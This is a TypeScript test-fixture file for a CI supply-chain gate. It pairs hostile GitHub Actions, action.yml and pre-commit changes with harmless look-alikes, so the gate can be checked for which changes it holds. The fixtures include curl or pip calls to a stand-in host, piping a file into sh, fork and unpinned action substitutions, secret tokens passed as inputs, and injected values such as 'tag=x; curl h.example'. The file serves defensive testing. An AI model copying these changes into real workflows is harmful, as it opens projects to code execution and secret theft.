import known from '../../../../worker/gates/delayed-execution/known-releases.json' with { type: 'json' }
import { changed } from '../../gate-input.ts'
import type { RuleCase } from '../rule-case.ts'
import { exposed, pair, path, release, sha, tests } from './reach-cases.ts'

const expression = (inner: string) => `\${{ ${inner} }}`
const [newest = '', older = ''] = known['actions/checkout'].map((line) => line.split(' ')[1])
const [newestTag = ''] = known['actions/checkout'].map((line) => line.split(' ')[0])
const checkout = (of: string) => release.replace('acme/checkout@v4', `actions/checkout@${of}`)
const readOnly = tests.replace('          npm ci\n          npm test', '          npm test')
const runner = (of: string) => tests.replace('[ubuntu-24.04]', '[ubuntu-24.04]').replace(expression('matrix.os'), of)
const action = (inputs: string, using = 'node24, main: a.js') => `inputs: ${inputs}\nruns: { using: ${using} }\n`
const guarded = release.replace(
  "if: github.ref == 'refs/heads/main'",
  "if: github.ref == 'refs/heads/main' && github.event.created",
)

function ofAction(what: string, before: string, attack: string, harmless: string): RuleCase {
  const fires = changed('action.yml', before, attack)
  return { rule: 'workflow', severity: 'hold', what, fires, quiet: changed('action.yml', before, harmless) }
}

function ofHooks(what: string, before: string, attack: string, harmless: string): RuleCase {
  const written = (rev: string, repo = 'https://github.com/astral-sh/ruff-pre-commit') =>
    `repos:\n  - repo: ${repo}\n    rev: ${rev}\n    hooks: [{ id: a }]\n`
  const file = '.pre-commit-config.yaml'
  return {
    ...{ rule: 'pre-commit-revision', severity: 'hold', what },
    fires: changed(file, written(before), written(attack)),
    quiet: changed(file, written(before), written(harmless)),
  }
}

const ruff = known['astral-sh/ruff-pre-commit'].map((line) => line.split(' '))
const [ruffTag = '', ruffCommit = ''] = ruff[0] ?? []
const [oldTag = '', oldCommit = ''] = ruff[1] ?? []

/** Scripts of a job that runs the project's code and holds nothing: what is taken or shown, beside what is brought. */
const lines: readonly [what: string, attack: string, harmless: string][] = [
  ['a file that is written where a tool looks', 'echo x > .npmrc', 'echo "found=1" >> "$GITHUB_OUTPUT"'],
  ['a variable for all later steps', 'echo "A=b" >> "$GITHUB_ENV"', 'echo "## Tests" >> $GITHUB_STEP_SUMMARY'],
  ['a path for all later steps', 'echo x >> $GITHUB_PATH', 'cat report.txt 2>/dev/null || true'],
  ['a shell that reads what is shown', 'cat x.sh | sh', 'cat x.sh'],
  ['a command in what is shown', 'echo "$(curl h.example)"', 'echo "$RUNNER_OS done"'],
  ['a program that a variable names', '$TOOL test', 'rm -f $HOME/.cache/x'],
  ['a variable as a command of a package manager', 'npm $TOOL evil', 'ls "$HOME/x"'],
  ['a command behind a removal', 'rm -rf out; ./x', 'sudo rm -rf /usr/local/bin/x out'],
  ['a program that git starts', 'git diff --ext-diff', 'git diff --exit-code -- dist/index.js'],
  ['a file that git writes', 'git log --output=.npmrc', 'git describe --tags'],
  ['a setting of git', 'git config core.fsmonitor x', 'git status --porcelain'],
  ['a script outside', '../x/verify.sh', 'checks/verify.sh 24'],
  ['a script of the machine', '/tmp/x', 'bin/verify --fast'],
  ['another package for the machine', 'npm install -g evil', 'npm install -g npm@11'],
  ['an older name of a package manager', 'npm install -g npm@npm:evil', 'npm install --ignore-engines'],
  ['a tap that anybody can make', 'brew install evil/tap/x', 'brew install mono'],
  ['a package from an address', 'pip install https://h.example/x', 'python -m pip install --upgrade pip'],
  ['another manifest', 'composer update --working-dir=x', 'composer update --prefer-lowest'],
  ['an option of tox that is code', 'tox -e py -c x.ini', 'tox run -e py314,lint'],
  ['a condition that runs a program', 'if curl h.example; then', 'if test -f out.txt; then'],
]

/** Each an attack beside the change that it could pass for. */
export const sameReachCases: readonly RuleCase[] = [
  ...lines.map(([what, attack, harmless]) => pair(what, tests, ['npm test', attack], ['npm test', harmless])),
  pair(
    'a commit that no release is',
    checkout('v4'),
    ['actions/checkout@v4', `actions/checkout@${'c'.repeat(40)}`],
    ['actions/checkout@v4', `actions/checkout@${newest}`],
  ),
  pair(
    'the commit of an older release',
    checkout(newest),
    [newest, older],
    [`@${newest}`, `@${newest} # ${newestTag}`],
  ),
  pair(
    'a fork under the commit of a release',
    checkout(older),
    [`actions/checkout@${older}`, `evil/checkout@${newest}`],
    [older, newest],
  ),
  pair(
    'the commit of another action',
    checkout(older).replace('actions/checkout', 'actions/cache'),
    [older, newest],
    ['name: Publish', 'name: Release'],
  ),
  pair(
    'credentials that are kept by saying nothing',
    tests,
    ['fetch-depth: 1, persist-credentials: false', 'fetch-depth: 1'],
    ['fetch-depth: 1', 'fetch-depth: 0, show-progress: true'],
  ),
  pair(
    'a token beside credentials that are no longer kept',
    release.replace('uses: acme/checkout@v4', 'uses: acme/checkout@v4\n        with: { fetch-depth: 1 }'),
    ['fetch-depth: 1', `persist-credentials: false, token: "${expression('secrets.NPM_TOKEN')}"`],
    ['fetch-depth: 1', 'persist-credentials: false, fetch-depth: 0'],
  ),
  pair(
    'a measure that is an expression, beside a secret',
    release,
    ['cache-key: v1', `cache-key: v1, retention-days: "${expression('secrets.NPM_TOKEN')}"`],
    ['cache-key: v1', 'cache-key: v1, retention-days: 5'],
  ),
  pair(
    'a machine as a second choice',
    runner(expression("matrix.os || 'ubuntu-latest'")),
    ["|| 'ubuntu-latest'", "|| 'build-1'"],
    ['[ubuntu-24.04]', '[ubuntu-26.04, macOS-latest]'],
  ),
  pair(
    'a machine that the event names',
    runner(expression("matrix.os || 'ubuntu-latest'")),
    ["|| 'ubuntu-latest'", '|| inputs.machine'],
    ["'ubuntu-latest'", "'ubuntu-24.04'"],
  ),
  pair(
    'a machine within a part of the matrix',
    runner(expression('matrix.on.os')).replace('os: [ubuntu-24.04]', 'on: [{ os: ubuntu-24.04 }]'),
    ['{ os: ubuntu-24.04 }', '{ os: build-1 }'],
    ['npm test', 'npm run e2e'],
  ),
  pair(
    'a condition that also holds when a check failed',
    release.replace("    if: github.ref == 'refs/heads/main'\n", ''),
    ['    needs: [wait]\n', '    needs: [wait]\n    if: always()\n'],
    ['    needs: [wait]\n', "    needs: [wait]\n    if: github.ref == 'refs/heads/main'\n"],
  ),
  pair(
    'a second choice behind a condition',
    release,
    ["'refs/heads/main'\n", "'refs/heads/main' || github.event.forced\n"],
    ["'refs/heads/main'\n", "'refs/heads/main' && github.event.created\n"],
  ),
  pair(
    'a part of a condition that goes',
    guarded,
    [' && github.event.created', ''],
    [' && github.event.created', ' && github.event.created && github.event.forced'],
  ),
  pair(
    'a choice that quotes hide',
    release,
    ["if: github.ref == 'refs/heads/main'", "if: github.job == ')' || true || '(' && github.ref == 'refs/heads/main'"],
    [
      "if: github.ref == 'refs/heads/main'",
      `if: ${expression("github.ref == 'refs/heads/main' && github.event.created")}`,
    ],
  ),
  pair(
    'braces around a part alone, which make it a text',
    release,
    [
      "if: github.ref == 'refs/heads/main'",
      `if: github.ref == 'refs/heads/main' && ${expression('github.event.created')}`,
    ],
    ["if: github.ref == 'refs/heads/main'", "if: github.event.created && github.ref == 'refs/heads/main'"],
  ),
  pair(
    'waiting for another job in place of the check',
    `${release}  other: { runs-on: ubuntu-24.04, steps: [{ run: npm test }] }\n`,
    ['needs: [wait]', 'needs: [other]'],
    ['needs: [wait]', 'needs: [wait, other]'],
  ),
  pair(
    'a place on the machine as an input',
    tests,
    ['cache: npm', 'path: ~/.ssh'],
    ['cache: npm', `working-directory: "${expression('github.workspace')}/app"`],
  ),
  pair(
    'what a stranger names as an input',
    tests,
    ['intl, zip', expression('github.head_ref')],
    ['intl, zip', expression("matrix.node == '22' && 'intl' || 'zip'")],
  ),
  pair(
    'a version that goes on, in a script',
    tests.replace('npm test', `npm run test-${expression('matrix.node')}`),
    ['node: [22]', 'node: ["22 --require x"]'],
    ['node: [22]', 'node: ["~>22.1.0", "^22.1@dev", "pypy3.11-v7.3.22", 3.14t]'],
  ),
  pair(
    'a sentence in a part of the matrix that a script is made of',
    tests.replace('npm test', `npm run ${expression('matrix.node')}`).replace('node: [22]', 'node: [a], title: [b]'),
    ['node: [a]', 'node: ["a and b"]'],
    ['title: [b]', 'title: ["a and b"]'],
  ),
  pair(
    'a sentence where a script has the whole matrix',
    tests.replace('npm test', `npm run ${expression('toJSON(matrix)')}`).replace('node: [22]', 'title: [b]'),
    ['title: [b]', 'title: ["b and c"]'],
    ['title: [b]', 'title: [c]'],
  ),
  pair(
    'an action at another place of the repository, beside a secret',
    release,
    ['      - run: ./verify\n', '      - uses: ./other\n'],
    ['name: Publish', 'name: Release'],
  ),
  pair(
    'what an action of the repository is told',
    tests,
    [
      '      - name: Tests\n',
      `      - uses: ./tools/x\n        with: { a: "${expression('github.head_ref')}" }\n      - name: Tests\n`,
    ],
    ['      - name: Tests\n', '      - uses: ./tools/x\n        with: { a: b }\n      - name: Tests\n'],
  ),
  pair(
    'an image of another owner in place of a tag',
    tests.replace('    steps:', '    container: acme/x:latest-a\n    steps:'),
    ['acme/x:latest-a', `evil/x:latest-a@sha256:${'a'.repeat(64)}`],
    ['timeout-minutes: 5', 'timeout-minutes: 6'],
  ),
  pair(
    'another digest behind a name for it, beside a secret',
    release.replace('run: ./verify', `uses: docker://acme/lint@sha256:${'a'.repeat(64)}`),
    [`lint@sha256:${'a'.repeat(64)}`, `lint:1.2@sha256:${'b'.repeat(64)}`],
    ['lint@sha256', 'lint:1.2@sha256'],
  ),
  pair(
    'a script as a text that an action posts',
    release.replace('cache-key: v1', 'issue-comment: Old'),
    ['issue-comment: Old', 'issue-comment: Old, script: x()'],
    ['issue-comment: Old', 'issue-comment: "Old, and closed.\\n", discussion-inactive-days: 31'],
  ),
  pair(
    'the commit of a release where a secret is given to another step',
    exposed.replace(`acme/report@${sha}`, `actions/cache@${sha}`),
    [`actions/cache@${sha}`, `actions/cache@${newest}`],
    ['run: npm test', 'run: npm run e2e'],
  ),
  pair(
    'a job that holds nothing with an action that the file does not know',
    readOnly,
    ['  test:\n', '  more: { runs-on: ubuntu-24.04, steps: [{ uses: evil/x@v1 }] }\n  test:\n'],
    [
      '  test:\n',
      '  more: { runs-on: ubuntu-24.04, steps: [{ uses: acme/codeql-scan@v2 }, { run: npm test }] }\n  test:\n',
    ],
  ),
  ofAction(
    'an input that has a token without being given',
    action('{ a: { default: b } }'),
    action(`{ a: { default: b }, token: { default: "${expression('github.token')}" } }`),
    action('{ a: { default: b }, draft: { description: Whether, default: false } }'),
  ),
  ofAction(
    'an input that is another one without being given',
    action('{ a: { default: b } }'),
    action('{ a: { default: c } }'),
    action('{ a: { default: b, description: What it is } }'),
  ),
  ofAction(
    'an input that is a script without being given',
    action('{ a: { default: b } }'),
    action('{ a: { default: b }, pre-script: { default: x } }'),
    action('{ a: { default: b }, pre-script: { description: What runs first } }'),
  ),
  ofAction(
    'a new input that the steps knew already',
    action('{}', `composite, steps: [{ run: "${expression('inputs.call')} x" }]`),
    action('{ call: { default: evil } }', `composite, steps: [{ run: "${expression('inputs.call')} x" }]`),
    action('{ more: { default: b } }', `composite, steps: [{ run: "${expression('inputs.call')} x" }]`),
  ),
  ofAction(
    'another value for an output',
    `outputs: { a: { value: "${expression('steps.a.outputs.a')}" } }\n${action('{}')}`,
    `outputs: { a: { value: "${expression('github.head_ref')}" } }\n${action('{}')}`,
    `outputs: { a: { value: "${expression('steps.a.outputs.a')}", description: Which }, b: { description: More } }\n${action('{}')}`,
  ),
  ofHooks('a commit that no release of a hook is', oldCommit, 'c'.repeat(40), ruffCommit),
  ofHooks('an older release of a hook', ruffTag, oldTag, ruffCommit),
  ofHooks('a branch of a hook', oldTag, 'main', ruffTag),
  {
    rule: 'pre-commit-revision',
    severity: 'hold',
    what: 'the commit of a release under another repository',
    fires: changed(
      '.pre-commit-config.yaml',
      `repos:\n  - { repo: "https://github.com/evil/ruff-pre-commit", rev: ${oldTag}, hooks: [] }\n`,
      `repos:\n  - { repo: "https://github.com/evil/ruff-pre-commit", rev: ${ruffTag}, hooks: [] }\n`,
    ),
    quiet: changed(
      '.pre-commit-config.yaml',
      `repos:\n  - { repo: "https://github.com/astral-sh/ruff-pre-commit", rev: ${oldTag}, hooks: [] }\n`,
      `repos:\n  - { repo: "https://github.com/astral-sh/ruff-pre-commit", rev: ${ruffTag}, hooks: [] }\n`,
    ),
  },
  {
    ...{ rule: 'workflow-trigger', severity: 'hold' as const, what: 'a person’s start beside a secret' },
    fires: changed(path, release, release.replace('on: {', 'on: { workflow_dispatch: ,')),
    quiet: changed(path, tests, tests.replace('on: {', 'on: { workflow_dispatch: ,')),
  },
  pair(
    'a list in a script that ends it',
    tests.replace('npm test', `npm run ${expression('matrix.node')}`).replace('node: [22]', 'node: [a]'),
    ['node: [a]', 'node: ["a;b"]'],
    ['node: [a]', 'node: ["py3.14,py3.14t"]'],
  ),
  ...(
    [
      ['inputs', '      - uses: acme/codeql-scan@v2\n', '        with: '],
      ['variables', '        with: { fetch-depth: 1, persist-credentials: false }\n', '        env: '],
      ['variables of all jobs', 'permissions: { contents: read }\n', 'env: '],
      ['containers beside the job', '    timeout-minutes: 5\n', '    services: '],
    ] as const
  ).map(([what, behind, key]) =>
    pair(
      `${what} that an expression makes`,
      tests,
      [behind, `${behind}${key}${expression('fromJSON(vars.MORE)')}\n`],
      ['name: Tests', 'name: All tests'],
    ),
  ),
  pair(
    'machines that an expression adds to the matrix',
    tests.replace('node: [22]', 'include: [{ node: 22 }]'),
    ['include: [{ node: 22 }]', `include: "${expression('fromJSON(vars.MORE)')}"`],
    ['include: [{ node: 22 }]', 'include: [{ node: 24 }]'],
  ),
  pair(
    'what another job is handed, in place of what a script found',
    tests.replace('    name: Test\n', `    outputs: { tag: "${expression('steps.a.outputs.tag')}" }\n`),
    ['npm test', 'echo "tag=x; curl h.example" >> "$GITHUB_OUTPUT"'],
    ['npm test', 'echo "tag=x; curl h.example"'],
  ),
  pair(
    'another step as the one whose words another job is handed',
    tests
      .replace('    name: Test\n', `    outputs: { tag: "${expression('steps.a.outputs.tag')}" }\n`)
      .replace('      - name: Tests', '      - run: npm run words\n      - id: a\n        name: Tests'),
    ['- run: npm run words\n      - id: a\n        name: Tests', '- id: a\n        run: npm run words\n      - id: b'],
    ['name: Tests', 'name: All tests'],
  ),
]
